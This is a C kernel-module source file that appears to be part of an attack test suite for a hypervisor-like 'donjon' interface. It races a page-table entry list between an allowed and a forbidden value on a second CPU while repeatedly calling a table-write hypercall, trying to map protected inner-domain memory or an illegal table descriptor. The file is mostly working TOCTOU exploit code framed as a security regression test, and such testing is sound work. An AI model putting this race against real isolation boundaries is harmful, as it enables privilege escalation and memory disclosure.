// SPDX-License-Identifier: GPL-2.0-only
/*
 * Change a list of stores between the look at it and its use. Another CPU flips an item
 * between one that is allowed and one that is not, while this one calls.
 */
#include <linux/compiler.h>
#include <linux/cpumask.h>
#include <linux/err.h>
#include <linux/gfp.h>
#include <linux/io.h>
#include <linux/jiffies.h>
#include <linux/kthread.h>
#include <linux/preempt.h>
#include <linux/sched.h>
#include <linux/smp.h>

#include "attack.h"

/* Lists that are accepted; others say nothing, and there are many while one CPU stands still */
#define ACCEPTED	20000
/* For all of them, on a host with other work to do */
#define PATIENCE	(60 * HZ)

/* What the other CPU writes in turns. */
struct race {
	struct donjon_table_entry *list;
	struct donjon_table_entry good, bad;
	unsigned long flips;
};

static int flip(void *data)
{
	struct race *race = data;

	while (!kthread_should_stop()) {
		WRITE_ONCE(race->list->entry, race->bad.entry);
		WRITE_ONCE(race->list->value, race->bad.value);
		WRITE_ONCE(race->list->entry, race->good.entry);
		WRITE_ONCE(race->list->value, race->good.value);
		race->flips++;
		if (!(race->flips % 4096))
			cond_resched();
	}
	return 0;
}

static u64 at(u64 pa)
{
	return READ_ONCE(*(u64 *)phys_to_virt(pa));
}

/* Whether what is forbidden stands there; what is allowed goes. */
static bool is_forged(const struct race *race)
{
	u64 forged = at(race->bad.entry);

	if (forged == race->bad.value)
		return true;
	if (at(race->good.entry) & DESCRIPTOR_VALID)
		__donjon_call(DONJON_FN_TABLE_WRITE, race->good.entry, 0, 0, 0, 0, 0);
	return false;
}

static void call_often(struct race *race)
{
	unsigned long until = jiffies + PATIENCE, accepted = 0, refused = 0, calls;
	struct donjon_result result;

	for (calls = 0; (accepted < ACCEPTED || !refused) && time_before(jiffies, until);
	     calls++) {
		result = __donjon_call(DONJON_FN_TABLE_WRITE_LIST,
				       virt_to_phys(race->list), 1, 0, 0, 0, 0);
		if (result.status)
			refused++;
		else
			accepted++;
		if (is_forged(race)) {
			restore_entry_later(race->bad.entry, 0);
			attack_succeeded("call %lu has written %#llx to %#llx", calls,
					 race->bad.value, race->bad.entry);
			return;
		}
		cond_resched();
	}
	if (accepted && refused && race->flips)
		attack_stopped("%lu lists are accepted and %lu refused, none in part",
			       accepted, refused);
	else
		attack_untried("of %lu lists %lu are accepted in %lu flips", calls,
			       accepted, race->flips);
}

static void race(struct donjon_table_entry good, struct donjon_table_entry bad)
{
	struct race race = { .good = good, .bad = bad };
	struct task_struct *task;
	unsigned int other;

	/* Two tasks on one CPU would be no race */
	migrate_disable();
	other = cpumask_any_but(cpu_online_mask, smp_processor_id());
	race.list = (struct donjon_table_entry *)get_zeroed_page(GFP_KERNEL);
	task = kthread_create(flip, &race, "flip");
	if (!race.list || IS_ERR(task) || other >= nr_cpu_ids) {
		attack_untried("there is no other CPU, or no memory");
	} else {
		*race.list = good;
		kthread_bind(task, other);
		wake_up_process(task);
		call_often(&race);
	}
	if (!IS_ERR(task))
		kthread_stop(task);
	free_page((unsigned long)race.list);
	migrate_enable();
}

/* The page of the attacker's and one of the inner domain. */
static void value(void)
{
	struct window window;

	if (!open_window(&window))
		return;
	race((struct donjon_table_entry){ window.entry, window.old },
	     (struct donjon_table_entry){ window.entry, kernel_page(inner_memory()) });
}

/* As a page the descriptor is allowed, as a table it is not. */
static void entry(void)
{
	struct window window;
	u64 other;

	if (!open_window(&window))
		return;
	other = free_entry(walk_to(kernel_root(), window.va, 2).entry);
	if (!other) {
		attack_untried("the table of level 2 is full");
		return;
	}
	race((struct donjon_table_entry){ window.entry, window.old },
	     (struct donjon_table_entry){ other, window.old });
}

DONJON_ATTACK("change-list-during-call", "value", value);
DONJON_ATTACK("change-list-during-call", "entry", entry);
